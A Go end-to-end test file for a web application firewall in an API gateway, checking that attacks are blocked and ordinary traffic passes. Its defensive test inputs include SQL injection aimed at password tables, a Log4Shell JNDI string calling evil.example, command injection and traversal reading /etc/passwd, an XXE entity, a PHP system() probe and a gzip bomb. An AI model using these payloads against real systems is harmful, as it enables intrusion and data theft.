package e2e

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/sallyport/sallyport/sdk/sallyport"
	"github.com/sallyport/sallyport/tests/harness"
)

const (
	injection = "1' or '1'='1' union select password from users-- "
	encoded   = "1%27+or+%271%27%3D%271%27+union+select+password+from+users--+"
	sqlError  = "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version"
	// brotlied is {"comment": injection} in brotli.
	brotlied = "Gz8AAAR0Y6mOlyeDVTBmwSqCQw7c+9IEEso18BjuOSV5JadxwFGhNLM43UAcpj7zQyb0wXQj0AM="
)

// inspectedStory is one whose route a waf policy inspects, in an environment of its own: what inspections cost is the address's to pay.
func inspectedStory(t *testing.T, upstream *harness.Upstream, mode sallyport.PolicyMode, config map[string]any) (*harness.Story, sallyport.Policy) {
	t.Helper()
	s := product.OwnStory(t, 1, harness.Loopback)
	service := s.Service("service", upstream.Address)
	route := s.Route(sallyport.Route{Name: s.Name("route"), Service: service.Name, Paths: harness.Below("/"), Public: true})
	return s, inspects(s, route.Name, mode, config)
}

// inspects attaches a waf policy to a route, with a budget that a story doesn't spend.
func inspects(s *harness.Story, route string, mode sallyport.PolicyMode, config map[string]any) sallyport.Policy {
	config["budget"] = map[string]any{"per_address": "600s", "per_credential": "600s", "refill": "1s"}
	return s.Policy(sallyport.Policy{Name: s.Name("waf"), Kind: "waf", Mode: &mode, Config: config, AttachedTo: []sallyport.Attachment{{Route: route}}})
}

// probe is a request of a browser, and what it is answered.
type probe struct {
	method, path, body string
	header             map[string]string
}

func (p probe) send(t *testing.T, s *harness.Story) harness.Response {
	t.Helper()
	header := http.Header{"User-Agent": {"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"}, "Accept": {"*/*"}}
	for name, value := range p.header {
		header.Set(name, value)
	}
	path := p.path
	if path == "" {
		path = "/"
	}
	answer, err := s.Edges()[0].Do(t.Context(), harness.Request{Method: p.method, Path: path, Host: s.Host, Header: header, Body: p.body})
	if err != nil {
		t.Fatal(err)
	}
	return answer
}

func typed(media, body string) probe {
	return probe{method: http.MethodPost, body: body, header: map[string]string{"Content-Type": media}}
}

func coded(p probe, coding string) probe {
	p.header["Content-Encoding"] = coding
	return p
}

func multipartOf(name, value string) probe {
	return typed("multipart/form-data; boundary=xyz", "--xyz\r\nContent-Disposition: form-data; name=\""+name+"\"\r\n\r\n"+value+"\r\n--xyz--\r\n")
}

func uploadOf(file, content string) probe {
	return typed("multipart/form-data; boundary=xyz", "--xyz\r\nContent-Disposition: form-data; name=\"file\"; filename=\""+file+"\"\r\nContent-Type: text/plain\r\n\r\n"+content+"\r\n--xyz--\r\n")
}

func TestAttacksAreBlockedWhereverTheyAreAndNeverReachTheService(t *testing.T) {
	t.Parallel()
	upstream := harness.NewUpstream(t, nil)
	s, _ := inspectedStory(t, upstream, "enforce", map[string]any{})
	inBrotli, err := base64.StdEncoding.DecodeString(brotlied)
	if err != nil {
		t.Fatal(err)
	}
	jsonBody := `{"comment": "` + injection + `"}`
	for name, p := range map[string]probe{
		"query":        {path: "/?id=" + encoded},
		"form":         typed("application/x-www-form-urlencoded", "a=b&id="+encoded),
		"JSON":         typed("application/json; charset=utf-8", jsonBody),
		"nested JSON":  typed("application/vnd.api+json", `{"a": [{"b": "`+injection+`"}]}`),
		"multipart":    multipartOf("id", injection),
		"upload":       uploadOf("shell.php", "x"),
		"XML":          typed("application/xml", "<a><b>"+injection+"</b></a>"),
		"header":       {header: map[string]string{"Referer": injection}},
		"cookie":       {header: map[string]string{"Cookie": "a=b; id=" + injection}},
		"gzip":         coded(typed("application/json", gzipped(jsonBody)), "gzip"),
		"br":           coded(typed("application/json", string(inBrotli)), "br"),
		"script":       {path: "/?q=%3Cscript%3Ealert(1)%3C/script%3E"},
		"traversal":    {path: "/?file=../../../../etc/passwd"},
		"command":      {path: "/?host=127.0.0.1%3Bcat+/etc/passwd"},
		"Log4Shell":    {header: map[string]string{"User-Agent": "${jndi:ldap://evil.example/a}"}},
		"scanner":      {header: map[string]string{"User-Agent": "sqlmap/1.7"}},
		"PHP":          {path: "/?x=%3C?php+system('id')%3B"},
		"path":         {path: "/%27%20or%20%271%27=%271%27--%20/.env"},
		"broken JSON":  typed("application/json", `{"a": `),
		"restricted":   {path: "/.git/config"},
		"XML entities": typed("application/xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>file:///etc/passwd</a>`),
	} {
		answer := p.send(t, s)
		if answer.Status != http.StatusForbidden || answer.Code() != "waf_blocked" || bytes.Contains(answer.Body, []byte("942")) {
			t.Errorf("%s: %s", name, answer)
		}
	}
	if got := upstream.Requests(); len(got) != 0 {
		t.Errorf("%d reached the service: %+v", len(got), got[0])
	}
	metrics := s.Metrics(s.Edges()[0])
	for metric, labels := range map[string][]string{
		"sallyport_edge_waf_engines": nil, "sallyport_edge_waf_engine_bytes": nil, "sallyport_edge_waf_engines_compiled_total": nil, "sallyport_edge_waf_compile_seconds_total": nil,
		"sallyport_edge_waf_inspections_total": {`part="body"`, `verdict="blocked"`}, "sallyport_edge_waf_inspected_bytes_total": {`part="head"`}, "sallyport_edge_waf_inspection_seconds_total": nil,
	} {
		if metrics.Sum(metric, labels...) <= 0 {
			t.Errorf("%s%v isn't told", metric, labels)
		}
	}
}

// What people and programs send who mean no harm.
func TestUsualRequestsPass(t *testing.T) {
	t.Parallel()
	upstream := harness.NewUpstream(t, nil)
	s, _ := inspectedStory(t, upstream, "enforce", map[string]any{})
	form, asJSON := "application/x-www-form-urlencoded", "application/json"
	usual := []probe{
		{path: "/"},
		{path: "/products?page=2&sort=-price&filter%5Bcolor%5D=red"},
		{path: "/search?q=caf%C3%A9+cr%C3%A8me+%26+cake"},
		{path: "/search?q=how+to+select+a+book+from+the+union+library"},
		{path: "/users/6f9619ff-8b86-d011-b42d-00cf4fc964ff/orders/4711"},
		{path: "/reports?from=2026-01-01T00:00:00Z&to=2026-02-01T00:00:00%2B01:00"},
		{path: "/maps?bbox=13.08,52.33,13.76,52.67"},
		{path: "/callback?code=4/0AfJohXk-abc_DEF&state=eyJhbGciOiJub25lIn0"},
		{path: "/items?ids=1,2,3,4&fields=id,name"},
		{path: "/images/logo.png", header: map[string]string{"If-None-Match": `"33a64df5"`, "Cache-Control": "no-cache"}},
		{path: "/o'brien"},
		{path: "/redirect?next=/dashboard"},
		{header: map[string]string{"Cookie": "session=8c6f3f2d; theme=dark; _ga=GA1.2.1234567890.1234567890"}},
		{header: map[string]string{"Authorization": "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl"}},
		{header: map[string]string{"Referer": "https://www.example.com/search?q=shoes"}},
		{header: map[string]string{"Accept-Language": "de-DE,de;q=0.9,en;q=0.8", "Accept-Encoding": "gzip, deflate, br"}},
		{header: map[string]string{"User-Agent": "okhttp/4.12.0"}},
		{header: map[string]string{"Traceparent": "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"}},
		{method: http.MethodHead, path: "/health"},
		{method: http.MethodDelete, path: "/orders/17"},
		{method: http.MethodOptions, path: "/orders"},
		typed(form, "name=Anna+M%C3%BCller&street=Main+St.+5&city=Berlin"),
		typed(form, "email=anna%40example.com&password=correct+horse+battery+staple"),
		typed(form, "comment=I+really+like+it%21+It%27s+great%2C+isn%27t+it%3F"),
		typed(asJSON, `{"name": "Anna", "age": 41, "tags": ["a", "b"], "address": {"city": "Köln", "zip": null}}`),
		typed(asJSON, `{"items": [{"sku": "A-1", "quantity": 2, "price": 9.99}, {"sku": "B-2", "quantity": 1, "price": 19.5}], "total": 39.48}`),
		typed(asJSON, `{"query": "{ user { name email } }"}`),
		typed(asJSON, `[]`),
		typed(asJSON, `{"text": "Please call me at +49 30 123456, or write to a@example.com."}`),
		typed(asJSON, `{"when": "2026-11-22T19:00:00Z", "amount": -12.5e3, "ok": true}`),
		typed("application/merge-patch+json", `{"title": "New title"}`),
		typed("application/xml", `<order id="7"><item>Book</item><price currency="EUR">9.99</price></order>`),
		multipartOf("title", "Holiday in Spain"),
		uploadOf("notes.txt", "All is well.\r\nSee you soon."),
		coded(typed(asJSON, gzipped(`{"a": "b"}`)), "gzip"),
	}
	for _, p := range usual {
		if p.method == http.MethodPost && p.header["Content-Type"] == "application/merge-patch+json" {
			p.method = http.MethodPatch
		}
		if answer := p.send(t, s); answer.Status != http.StatusOK {
			t.Errorf("%s %s %q %v: %s", p.method, p.path, p.body, p.header, answer)
		}
	}
	if got := len(upstream.Requests()); got != len(usual) {
		t.Errorf("%d of %d reached the service", got, len(usual))
	}
}

func TestLevelsThresholdsExceptionsAndRulesOfOnesOwnSayWhatIsBlocked(t *testing.T) {
	t.Parallel()
	upstream := harness.NewUpstream(t, nil)
	s := product.OwnStory(t, 1, harness.Loopback)
	service := s.Service("service", upstream.Address)
	var policy sallyport.Policy
	route := s.Route(sallyport.Route{Name: s.Name("route"), Service: service.Name, Paths: harness.Below("/"), Public: true})
	policy = inspects(s, route.Name, "enforce", map[string]any{})
	quote := probe{path: "/?id=1%27+or+%271%27%3D%271"}   // 942100 alone
	odd := probe{path: "/?q=a%27%20--%20%23%20(b)%20%3D"} // nothing that level 1 minds
	for _, tt := range []struct {
		name    string
		config  map[string]any
		blocked []probe
		passes  []probe
	}{
		{"level 4", map[string]any{"paranoia_level": 4}, []probe{quote, odd}, nil},
		{"level 1", map[string]any{"paranoia_level": 1}, []probe{quote}, []probe{odd}},
		{"high threshold", map[string]any{"inbound_threshold": 6}, []probe{{path: "/?id=" + encoded}}, []probe{quote}},
		{"exception by id", map[string]any{"exceptions": []any{map[string]any{"rules": []any{"942100"}}}}, []probe{{path: "/?id=" + encoded}}, []probe{quote}},
		{
			"exception by tag and argument",
			map[string]any{"exceptions": []any{map[string]any{"tags": []any{"attack-sqli"}, "targets": []any{"argument:id"}}}},
			[]probe{{path: "/?other=1%27+or+%271%27%3D%271"}},
			[]probe{quote, {path: "/?id=" + encoded}},
		},
		{
			"exception by path",
			map[string]any{"exceptions": []any{map[string]any{"rules": []any{"942000-942999"}, "paths": []any{"/sql/*"}}}},
			[]probe{quote, {path: "/sq?id=" + encoded}},
			[]probe{{path: "/sql/x?id=" + encoded}, {path: "/%73ql/x?id=1%27+or+%271%27%3D%271"}},
		},
		{"own rules", map[string]any{
			"rules_before": []any{map[string]any{"message": "let the probe pass", "action": "pass", "conditions": []any{map[string]any{"target": "header:X-Probe", "equals": "yes"}}}},
			"rules_after":  []any{map[string]any{"message": "no such tenant", "conditions": []any{map[string]any{"target": "argument:tenant", "matches": "^evil-[0-9]+$"}}}},
		}, []probe{quote, {path: "/?tenant=evil-7"}}, []probe{{path: "/?tenant=good-7"}, {path: quote.path, header: map[string]string{"X-Probe": "yes"}}}},
		{"SecLang", map[string]any{"seclang_before": `SecRule ARGS:raw "@streq forbidden" "id:1001,phase:2,deny,status:403,msg:'raw'"`}, []probe{{path: "/?raw=forbidden"}}, []probe{{path: "/?raw=allowed"}}},
	} {
		tt.config["budget"] = map[string]any{"per_address": "600s", "per_credential": "600s", "refill": "1s"}
		policy.Config = tt.config
		replaced, err := s.API.PutPolicyWithResponse(t.Context(), s.Environment.Name, policy.ID, &sallyport.PutPolicyParams{Wait: s.Wait()}, policy)
		s.Must(replaced, err)
		s.Applied(replaced.HTTPResponse)
		for _, p := range tt.blocked {
			if answer := p.send(t, s); answer.Code() != "waf_blocked" {
				t.Errorf("%s: %s is answered %s", tt.name, p.path, answer)
			}
		}
		for _, p := range tt.passes {
			if answer := p.send(t, s); answer.Status != http.StatusOK {
				t.Errorf("%s: %s is answered %s", tt.name, p.path, answer)
			}
		}
	}
}

func TestBodiesBeyondTheLimitAreRefusedOrPassWhole(t *testing.T) {
	t.Parallel()
	upstream := harness.NewUpstream(t, nil)
	s := product.OwnStory(t, 1, harness.Loopback)
	service := s.Service("service", upstream.Address)
	for name, body := range map[string]map[string]any{"refuse": {"max_bytes": 2000}, "pass": {"max_bytes": 2000, "beyond": "pass"}} {
		route := s.Route(sallyport.Route{Name: s.Name(name), Service: service.Name, Paths: harness.Below("/" + name), Public: true})
		s.Policy(sallyport.Policy{Name: s.Name(name), Kind: "waf", Config: map[string]any{"request_body": body}, AttachedTo: []sallyport.Attachment{{Route: route.Name}}})
	}
	large := `{"a": "` + strings.Repeat("b ", 2000) + injection + `"}`
	bomb := gzipped(strings.Repeat(" ", 1<<20) + `{}`)
	at := func(path string, p probe) harness.Response {
		p.path = path
		return p.send(t, s)
	}
	for name, tt := range map[string]struct {
		probe
		status int
	}{
		"large":   {typed("application/json", large), http.StatusRequestEntityTooLarge},
		"bomb":    {coded(typed("application/json", bomb), "gzip"), http.StatusRequestEntityTooLarge},
		"no gzip": {coded(typed("application/json", "{}"), "gzip"), http.StatusBadRequest},
	} {
		if answer := at("/refuse", tt.probe); answer.Status != tt.status {
			t.Errorf("%s is answered %s", name, answer)
		}
		before := len(upstream.Requests())
		if answer := at("/pass", tt.probe); answer.Status != http.StatusOK {
			t.Errorf("%s is answered %s where it may pass", name, answer)
		}
		if got := upstream.Requests(); len(got) != before+1 || got[before].Body != tt.body {
			t.Errorf("%s doesn't reach the service as it was sent", name)
		}
		withAttack := tt.probe
		withAttack.header = map[string]string{"Referer": injection}
		for field, value := range tt.header {
			withAttack.header[field] = value
		}
		if answer := at("/pass", withAttack); answer.Code() != "waf_blocked" {
			t.Errorf("%s behind a head with an attack is answered %s", name, answer)
		}
	}
}

func TestAnAnswerThatGivesAwayInternalsIsWithheldWithItsHeader(t *testing.T) {
	t.Parallel()
	upstream := harness.NewUpstream(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("X-Internal", "secret")
		switch r.URL.Path {
		case "/leak":
			_, _ = io.WriteString(w, sqlError)
		case "/zipped":
			w.Header().Set("Content-Encoding", "gzip")
			_, _ = io.WriteString(w, gzipped(sqlError))
		case "/image":
			w.Header().Set("Content-Type", "image/png")
			_, _ = io.WriteString(w, sqlError)
		case "/none":
			w.WriteHeader(http.StatusNoContent)
		case "/unmodified":
			w.WriteHeader(http.StatusNotModified)
		case "/fine-zipped":
			w.Header().Set("Content-Encoding", "gzip")
			_, _ = io.WriteString(w, gzipped("fine"))
		default:
			_, _ = io.WriteString(w, "fine")
		}
	}))
	s, _ := inspectedStory(t, upstream, "enforce", map[string]any{"answers": map[string]any{"bodies": true}})
	for _, path := range []string{"/leak", "/zipped"} {
		answer := probe{path: path, header: map[string]string{"Accept-Encoding": "gzip"}}.send(t, s)
		if answer.Status != http.StatusBadGateway || answer.Code() != "waf_answer_blocked" || answer.Header.Get("X-Internal") != "" || bytes.Contains(answer.Body, []byte("SQL")) {
			t.Errorf("%s: %s %v", path, answer, answer.Header)
		}
	}
	for path, want := range map[string]int{"/image": 200, "/none": 204, "/unmodified": 304, "/": 200} {
		if answer := (probe{path: path}).send(t, s); answer.Status != want || answer.Header.Get("X-Internal") == "" {
			t.Errorf("%s: %s", path, answer)
		}
	}
	if answer := (probe{method: http.MethodHead, path: "/leak"}).send(t, s); answer.Status != http.StatusOK || answer.Header.Get("Content-Length") != fmt.Sprint(len(sqlError)) {
		t.Errorf("HEAD: %s %v", answer, answer.Header)
	}
	if answer := (probe{path: "/fine-zipped", header: map[string]string{"Accept-Encoding": "gzip"}}).send(t, s); string(answer.Body) != gzipped("fine") || answer.Header.Get("Content-Encoding") != "gzip" {
		t.Errorf("an encoded answer that passes isn't what the service sent: %q", answer.Body)
	}
}

func TestAWebSocketIsInspectedAtItsHandshakeAndThenLeftAlone(t *testing.T) {
	t.Parallel()
	s, p := sockets(t, echoing)
	inspects(s, p.Route.Name, "enforce", map[string]any{"answers": map[string]any{"bodies": true}})
	edge := s.Edges()[0]
	w := edge.Wire(t)
	fields := []string{"X-Api-Key: " + p.Key.Key, "User-Agent: Mozilla/5.0", "Accept: */*"}
	if err := w.OpenWebSocket(s.Host, "/chat", fields...); err != nil {
		t.Fatal(err)
	}
	echoes(t, w, harness.Frame{Opcode: harness.Text, Final: true, Payload: []byte(injection)})
	refused := edge.Wire(t)
	if err := refused.OpenWebSocket(s.Host, "/chat?id="+encoded, fields...); err == nil {
		t.Error("a handshake with an attack is let through")
	}
}

func TestEventsPassAtOnceWhereAnswersAreInspected(t *testing.T) {
	t.Parallel()
	received := make(chan struct{})
	upstream := harness.NewUpstream(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		for range 2 {
			_, _ = io.WriteString(w, "data: "+sqlError+"\n\n")
			_ = http.NewResponseController(w).Flush()
			select {
			case <-received:
			case <-r.Context().Done():
				return
			}
		}
	}))
	s, _ := inspectedStory(t, upstream, "enforce", map[string]any{"answers": map[string]any{"bodies": true, "beyond": "refuse"}})
	stream, err := s.Edges()[0].Open(t.Context(), harness.Request{Path: "/events", Host: s.Host, Header: http.Header{"User-Agent": {"Mozilla/5.0"}, "Accept": {"text/event-stream"}}})
	if err != nil {
		t.Fatal(err)
	}
	defer stream.Body.Close()
	for range 2 {
		if _, err := io.ReadFull(stream.Body, make([]byte, len("data: "+sqlError+"\n\n"))); err != nil {
			t.Fatal(err)
		}
		received <- struct{}{}
	}
}

func TestInShadowAttacksPassAndAreToldOf(t *testing.T) {
	t.Parallel()
	upstream := harness.NewUpstream(t, nil)
	s, policy := inspectedStory(t, upstream, "shadow", map[string]any{})
	attack := probe{path: "/?id=" + encoded}
	if answer := attack.send(t, s); answer.Status != http.StatusOK {
		t.Errorf("in shadow: %s", answer)
	}
	if got := len(upstream.Requests()); got != 1 {
		t.Errorf("%d reached the service", got)
	}
	shadow := s.Metrics(s.Edges()[0]).Sum("sallyport_edge_stage_verdicts_total", `kind="waf"`, `mode="shadow"`, `verdict="waf_blocked"`)
	if shadow != 1 {
		t.Errorf("%v verdicts in shadow are counted", shadow)
	}
	_ = policy
}

func TestAnExplanationNamesTheRuleThatBlocks(t *testing.T) {
	t.Parallel()
	s, policy := inspectedStory(t, harness.NewUpstream(t, nil), "enforce", map[string]any{})
	node := explained(t, s, nil, sallyport.HypotheticalRequest{Host: s.Host, Target: "/?id=" + encoded}).Nodes[0]
	if node.Verdict != "waf_blocked" || node.Policy != policy.Name || !slices.ContainsFunc(node.Stages, func(st sallyport.ExplanationStage) bool { return strings.Contains(st.Reason, "942100 (") }) {
		t.Errorf("%+v", node)
	}
}

func TestOverHTTP2BodiesAreInspectedAndGRPCIsAtItsHandshakeAlone(t *testing.T) {
	t.Parallel()
	s := overTLS(t, 1)
	s.Certificate("api", s.authority.Issue(t, "api.test"), "api.test")
	inspects(s.Story, s.Name("open"), "enforce", map[string]any{"answers": map[string]any{"bodies": true}, "protocol": map[string]any{"grpc": true}})
	config := s.client("api.test")
	config.NextProtos = []string{"h2"}
	send := func(path, media, body string) harness.Response {
		t.Helper()
		answer, _, err := s.Edges()[0].Secure(t.Context(), config, harness.Request{
			Method: http.MethodPost, Host: "api.test", Path: path, Body: body,
			Header: http.Header{"User-Agent": {"grpc-go/1.85.0"}, "Accept": {"*/*"}, "Content-Type": {media}, "Te": {"trailers"}},
		})
		if err != nil {
			t.Fatal(err)
		}
		return answer
	}
	message := "\x00\x00\x00\x00\x40" + injection
	if answer := send("/shop.Orders/List", "application/grpc+proto", message); answer.Status != http.StatusOK {
		t.Errorf("a call is answered %s", answer)
	}
	if got := s.upstream.Requests(); len(got) != 1 || got[0].Body != message {
		t.Errorf("the service gets %+v", got)
	}
	for path, tt := range map[string][2]string{
		"/shop.Orders/List?id=" + encoded: {"application/grpc", message},
		"/orders":                         {"application/json", `{"id": "` + injection + `"}`},
	} {
		if answer := send(path, tt[0], tt[1]); answer.Code() != "waf_blocked" {
			t.Errorf("%s: %s", path, answer)
		}
	}
}
